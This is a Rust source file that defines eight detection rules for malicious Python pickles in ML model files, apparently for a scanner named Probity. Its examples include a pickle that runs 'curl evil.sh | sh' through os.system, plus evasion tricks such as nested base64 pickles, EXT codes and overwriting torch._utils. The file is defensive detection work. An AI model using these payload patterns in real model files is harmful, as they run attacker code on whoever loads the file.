//! Rules of the pickle family (`PKL`). Used for raw pickles and for every
//! pickle found inside PyTorch, NumPy, joblib and archive files.

use probity_report::Rule;
use probity_report::Severity;

pub static PKL001: Rule = Rule {
    id: "PKL001",
    severity: Severity::Critical,
    title: "Pickle imports a dangerous callable",
    what: "A pickle stream imports (GLOBAL, INST, STACK_GLOBAL) a callable from a dangerous family — process execution, code evaluation, import machinery, attribute indirection, file or network access, interpreters and runners, package installation, native code or a nested deserialiser — or an unknown callable whose name says it runs commands, evaluates code or loads data. The message names the family and the opcode that invokes it (REDUCE, BUILD, INST, OBJ, NEWOBJ, NEWOBJ_EX) with its arguments.",
    why: "Unpickling calls whatever the stream names. Loading such a file with `pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `numpy.load(allow_pickle=True)` runs the attacker's code with the loader's privileges.",
    example: "`cos\\nsystem\\n(S'curl evil.sh | sh'\\ntR.` — a protocol-0 pickle that calls `os.system`; the same with `STACK_GLOBAL` and memo indirection in protocol 4.",
    references: &["CWE-502", "CVE-2025-32434", "CVE-2025-1716", "GHSA-jgw4-cr84-mqxg", "GHSA-q77w-mwjj-7mqx", "GHSA-g38g-8gr9-h9xp"],
};

pub static PKL002: Rule = Rule {
    id: "PKL002",
    severity: Severity::Warning,
    title: "Pickle imports a callable outside the allowlist",
    what: "A pickle stream imports a callable that is neither on Probity's exact allowlist of callables used by real ML pickles (PyTorch rebuild functions, NumPy reconstructors, scikit-learn estimators, plain containers) nor in a known-dangerous family.",
    why: "Any importable callable can have side effects; an unknown one needs a human to decide. Add it to `allow` in `probity.toml` with a reason once reviewed.",
    example: "A scikit-learn pipeline that pickles a user class `__main__.MyTransformer`.",
    references: &["CWE-502"],
};

pub static PKL003: Rule = Rule {
    id: "PKL003",
    severity: Severity::Warning,
    title: "Pickle stream cannot be parsed",
    what: "A pickle stream is truncated, uses an unknown opcode, underflows its stack, reads a memo entry never stored, or is otherwise malformed. Everything seen before the error is still reported.",
    why: "Scanners that stop at the first error can be blinded by a payload followed by garbage, while a lenient loader still executes the payload. A stream Probity cannot fully read is never reported clean.",
    example: "`cbuiltins\\nexec\\n(X...` followed by a length that runs past the end of the file.",
    references: &["CWE-502"],
};

pub static PKL004: Rule = Rule {
    id: "PKL004",
    severity: Severity::Warning,
    title: "Pickle embedded inside pickle data",
    what: "A bytes or string value of a pickle — raw, base64- or hex-encoded — is itself a complete pickle stream. Probity scans it recursively and reports its findings too.",
    why: "An embedded pickle is invisible to scanners that read only the outer layer; application code that later unpickles the value runs it without any check. Ordinary ML checkpoints do not carry pickles as data.",
    example: "`{'weights': [...], 'hidden_payload': b'\\x80\\x04...'}` where the bytes are another pickle.",
    references: &["CWE-502"],
};

pub static PKL005: Rule = Rule {
    id: "PKL005",
    severity: Severity::Critical,
    title: "Embedded pickle invokes callables outside the allowlist",
    what: "A pickle hidden inside the data of another pickle (as bytes, or encoded as base64 or hex text) imports and calls callables that are not on the allowlist.",
    why: "A second-stage payload: the outer file looks inert, and the code runs when the application unpickles the embedded value. Hiding an executable pickle inside data has no benign use in a model file.",
    example: "A state dict whose `config` entry is a base64 string that decodes to a pickle calling `builtins.print` or `os.system`.",
    references: &["CWE-502"],
};

pub static PKL006: Rule = Rule {
    id: "PKL006",
    severity: Severity::Critical,
    title: "Pickle modifies an imported module or class",
    what: "BUILD, APPEND or SETITEM is applied to an imported module or class object itself (not to an instance): loading sets attributes or items on live interpreter objects.",
    why: "Overwriting attributes of a module or class (for example replacing a function of `torch._utils`) hijacks later code paths and can disable the very checks a safe loader relies on.",
    example: "`GLOBAL 'torch._utils' ...` followed by `BUILD` with state `(None, {'_rebuild_tensor': <evil>})`.",
    references: &["CWE-502", "CWE-915"],
};

pub static PKL007: Rule = Rule {
    id: "PKL007",
    severity: Severity::Warning,
    title: "Pickle calls something that cannot be resolved statically",
    what: "A call whose target is not an imported global: the result of another call, a STACK_GLOBAL whose operands are not plain strings, or a copyreg extension code (EXT1/EXT2/EXT4) resolved at load time from the loader's registry.",
    why: "The target is decided at load time, so no static allowlist can vouch for it; these forms are used to hide the real callable.",
    example: "`REDUCE` applied to the object returned by `getattr(module, 'system')`, or `EXT2 1234`.",
    references: &["CWE-502"],
};

pub static PKL008: Rule = Rule {
    id: "PKL008",
    severity: Severity::Info,
    title: "Data after the last pickle stream",
    what: "Bytes follow the last complete pickle stream and do not form another pickle.",
    why: "Usually tensor data (legacy PyTorch files) or padding; noted so the report accounts for every byte region that was not parsed as a pickle.",
    example: "A legacy `torch.save` file: five pickles followed by raw storage bytes.",
    references: &[],
};

pub static RULES: &[&Rule] = &[
    &PKL001, &PKL002, &PKL003, &PKL004, &PKL005, &PKL006, &PKL007, &PKL008,
];
